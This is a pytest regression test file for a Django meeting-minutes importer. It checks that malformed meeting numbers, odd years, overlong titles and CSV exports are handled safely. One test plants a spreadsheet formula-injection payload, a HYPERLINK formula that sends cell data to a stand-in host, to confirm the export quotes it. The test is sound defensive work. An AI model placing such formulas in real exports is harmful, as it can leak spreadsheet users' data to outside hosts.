"""Inputs a review found to break pages or imports; each must now be handled."""

import csv
import io

import pytest
from django.db import IntegrityError

from contributions.models import Contribution, Handling, Relation
from meetings.minutes.dialects.onem2m import parse
from meetings.minutes.importer import import_minutes
from meetings.minutes.readers import MinutesError, read_text
from meetings.models import Meeting, Organisation
from tests.make import (
    import_sample,
    make_contribution,
    make_group,
    make_handling,
    make_meeting,
    make_record,
    make_relation,
    queries_for,
)
from tests.meetings.minutes.helpers import SAMPLE, minutes_with
from tests.meetings.test_ingest_command import ingest as run_command

pytestmark = pytest.mark.django_db


def ingest_text(text, meeting=None):
    raw = text.encode()
    document = read_text(raw)
    return import_minutes(parse(document, meeting), document, name="m.txt", raw=raw)


@pytest.mark.parametrize("number", ["12/1", "..", "12#3", ""])
def test_a_meeting_number_that_would_break_its_address_is_refused(number):
    with pytest.raises(IntegrityError):
        Meeting.objects.create(group=make_group("SEC"), number=number)


def test_the_meeting_option_refuses_such_numbers(tmp_path):
    path = tmp_path / "call.txt"
    path.write_text("6.1\nChapter 6\n· SEC-2014-0356 was AGREED\n")

    _, err, error = run_command(path, meeting="SEC#12/2")
    assert error == "1 of 1 files could not be read."

    assert '"SEC#12/2" is not a meeting like SEC#12' in err
    assert not Meeting.objects.exists()


@pytest.mark.parametrize("year", ["²", "0", "99999", "abc"])
def test_odd_years_in_the_meeting_list_are_ignored(client, year):
    make_meeting()

    assert client.get("/meetings/", {"year": year}).status_code == 200


@pytest.mark.parametrize("number", ["SEC-0999-0001", "SEC-0014-0001"])
def test_implausible_years_in_a_document_address_are_a_friendly_404(client, number):
    assert client.get(f"/contributions/{number}/").status_code == 404


def test_a_presenter_with_a_dash_for_a_company_imports():
    text = minutes_with(1).replace("Presented by Wei Zhou, CATT", "Presented by Wei Zhou, –")

    ingest_text(text)

    assert Handling.objects.get(revision__number="SEC-2014-0401R01").presenter.name == "Wei Zhou"


def test_a_number_with_an_implausible_year_is_not_read_as_a_document():
    text = minutes_with(1) + "· SEC-1975-0001, An old document\n· SEC-1975-0001 was NOTED\n"

    ingest_text(text)

    assert not Contribution.objects.filter(number__startswith="SEC-1975").exists()


def test_text_too_long_for_the_record_is_cut_with_a_warning():
    title = "Clean Up CR number 1"
    text = minutes_with(1).replace(title, title + " and more" * 80)

    result = ingest_text(text)

    contribution = Contribution.objects.get(number="SEC-2014-0401")
    assert len(contribution.title) == 500
    assert any(
        "Too long for the record, cut to 500 characters" in w.message
        for w in result.source.warnings.all()
    )


def test_an_imported_file_is_not_silently_kept_under_another_meeting(tmp_path):
    run_command(SAMPLE)

    _, err, error = run_command(SAMPLE, meeting="SEC#13")

    assert "this file was imported for another meeting" in err
    assert error == "1 of 1 files could not be read."


def test_csv_cells_that_would_run_as_formulas_are_quoted(client):
    meeting = make_meeting()
    make_contribution("SEC-2014-0999", '=HYPERLINK("http://x/?"&A1,"Open")')
    make_handling("SEC-2014-0999", meeting, decision="agreed")

    response = client.get("/meetings/SEC/12/documents.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:])))
    assert rows[1][1] == '\'=HYPERLINK("http://x/?"&A1,"Open")'


def test_search_results_with_notes_take_a_fixed_number_of_queries(client):
    import_sample()

    # Contributions, notes (with their revisions' families), actions, resolutions.
    count, response = queries_for(client, "/search/?q=discussion")
    assert count == 4
    assert "Discussion notes" in response.text


def test_organisation_counts_are_right_and_do_not_multiply(client):
    make_record(5)

    response = client.get("/organisations/")

    gemalto = Organisation.objects.get(name="Gemalto")
    assert gemalto.contributions.count() == 5
    assert f"{gemalto.name}</a></th><td>5</td><td>0</td>" in response.text


def test_renumbering_a_contribution_keeps_the_relations_that_name_it():
    make_relation("SEC-2014-0346R04", Relation.Kind.INTEGRATED_INTO, "SEC-2014-0361")
    target = make_contribution("SEC-2014-0361", "AccessControl_clarifications")

    target.number = "SEC-2014-0362"
    target.save()

    relation = Relation.objects.get()
    assert relation.target_number == "SEC-2014-0362"
    assert relation.known_target() == target


def test_minutes_naming_no_meeting_are_still_refused_by_the_parser():
    with pytest.raises(MinutesError):
        parse(read_text(b"6.1\nChapter 6\n"))
